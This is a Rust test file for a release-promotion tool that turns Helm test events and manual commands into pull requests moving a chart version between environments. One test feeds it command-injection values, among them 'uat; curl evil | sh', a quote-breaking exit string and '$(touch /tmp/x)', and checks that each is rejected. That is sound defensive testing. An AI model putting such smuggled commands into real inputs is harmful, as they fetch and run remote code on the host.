//! Carrying a release on, as the promotion workflow does it.

use serde_json::{Value, json};

use crate::world::World;

fn tested(environment: &str, revision: &str) -> Value {
    json!({
        "involvedObject": {"kind": "HelmRelease", "namespace": "app-podinfo", "name": "podinfo"},
        "severity": "info", "reason": "TestSucceeded",
        "message": "Helm test succeeded for release app-podinfo/podinfo.v9 with chart podinfo@1.1.7: 3 test hooks completed successfully",
        "metadata": {"env": environment, "revision": revision},
    })
}

/// What promotes 1.1.7 by hand.
fn by_hand<'a>(from: &'a str, to: &'a str) -> [&'a str; 7] {
    ["promote", "--from", from, "--to", to, "--version", "1.1.7"]
}

#[tokio::test]
async fn the_event_of_a_tested_release_brings_the_open_promotion_up_to_date_once() {
    let world = World::start().await;
    let waiting = world.promotion("stg").await;
    let event = tested("uat", "1.1.8+0cc9a8446c95");
    let said = world.promote_event(&event).await.out();
    let number = waiting.number;
    let sentence = format!("weft: #{number} now promotes 1.1.8 into stg; 1.1.7 is superseded\n");
    assert_eq!(said, sentence);
    let pull = world.lab.forge().pull(number).await.unwrap();
    assert!(pull.title.ends_with("in stg to 1.1.8"));
    assert_ne!(pull.head, waiting.head);
    let again = world.promote_event(&event).await;
    let sentence = format!("weft: #{number} promotes 1.1.8 already\n");
    assert_eq!(again.out, sentence);
    let still = world.lab.forge().pull(number).await.unwrap();
    assert_eq!(still.head, pull.head);
}

#[tokio::test]
async fn a_person_promotes_by_hand_what_was_lost() {
    let world = World::start().await;
    let said = world.weft("bot", &by_hand("stg", "prod")).await.out();
    let number = world.promotion("prod").await.number;
    let sentence = format!("weft: #{number} would promote 1.1.7 into prod\n");
    assert_eq!(said, sentence);
    let (branch, path) = (
        "promotion-app-podinfo-podinfo-prod",
        "environments/prod/podinfo-helmrelease.yaml",
    );
    let text = world.lab.forge().file(branch, path).await.unwrap();
    assert!(text.contains("      version: 1.1.7\n"), "{text}");
}

#[tokio::test]
async fn hostile_and_useless_events_change_nothing() {
    let world = World::start().await;
    let before = world.lab.forge().pulls().await.unwrap();
    let injected = "uat; curl evil | sh";
    let no_version = "is not a chart version";
    for (payload, words) in [
        (tested(injected, "1.1.8"), "is no environment of this lane"),
        (tested("uat", "1.1.8\"; exit 0; #"), no_version),
        (tested("uat", "$(touch /tmp/x)"), no_version),
        (tested("prod", "1.1.8"), "nothing follows prod"),
        (tested("uat", "1.0.0"), "newer than 1.0.0"),
        (json!({"reason": "TestSucceeded"}), "another object"),
    ] {
        let said = world.promote_event(&payload).await.out();
        assert!(said.contains(words), "{words}\n{said}");
        assert_eq!(said.lines().count(), 1, "{said}");
    }
    let said = world.promote_file("[]").await;
    said.assert_fails(2, "no repository_dispatch");
    let after = world.lab.forge().pulls().await.unwrap();
    assert_eq!(after.len(), before.len());
}

#[tokio::test]
async fn without_rights_or_a_wish_it_ends_with_a_sentence() {
    let world = World::start().await;
    let order = by_hand("stg", "prod");
    let said = world.weft("kim", &order).await;
    said.assert_fails(1, "creating the branch: GitHub");
    let said = world.weft("nobody", &order).await;
    assert!(said.err.contains("set GITHUB_TOKEN"), "{}", said.err);
    let said = world.weft("bot", &["promote"]).await;
    assert!(said.err.contains("what is to be promoted?"), "{}", said.err);
    let said = world.weft("bot", &by_hand("prod", "stg")).await;
    said.assert_fails(2, "stg does not follow prod");
}

#[tokio::test]
async fn a_promotion_goes_into_the_branch_that_is_named() {
    let world = World::start().await;
    let order = by_hand("stg", "prod");
    let named = [&order[..], &["--branch", "trunk"]].concat();
    let said = world.weft("bot", &named).await;
    said.assert_fails(2, "the repository has no branch trunk");
    world.switch_to_trunk().await;
    let number = world.weft("bot", &named).await.number();
    assert_eq!(world.base_of(number).await, "trunk");
}
